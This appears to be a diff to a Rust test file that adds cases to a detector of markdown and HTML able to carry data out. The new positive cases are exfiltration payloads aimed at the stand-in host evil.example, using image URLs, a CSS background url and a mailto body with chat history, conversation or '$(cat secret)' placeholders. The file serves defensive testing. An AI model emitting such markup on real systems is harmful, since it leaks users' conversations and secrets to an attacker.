@@ -143,6 +143,10 @@ fn images_and_links_with_a_place_for_data() {
         "[click](https://evil.example/?data={history})",
         "<img src=\"https://evil.example/?d=<summary of the chat>\">",
         "![x][1]\n[1]: https://evil.example/?q=${key}",
+        "![x](//evil.example/p.png?d={data})",
+        "![x](https://evil.example/p.png?d=$(cat secret))",
+        "<div style=\"background: url('https://evil.example/?q={history}')\">",
+        "[mail](mailto:eve@evil.example?subject=x&body={conversation})",
         "![x](https://evil.example/p.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw)",
     ] {
         assert!(carries(text), "{text}");
@@ -153,6 +157,8 @@ fn images_and_links_with_a_place_for_data() {
         "[search](https://example.org/?q=rust)",
         "[docs](https://example.org/users/{id})",
         "<a href=\"https://example.org/?tab=readme\">",
+        "background: url(https://example.org/a.png?v=3)",
+        "[mail](mailto:a@example.org?subject=hello)",
     ] {
         assert!(!carries(text), "{text}");
     }
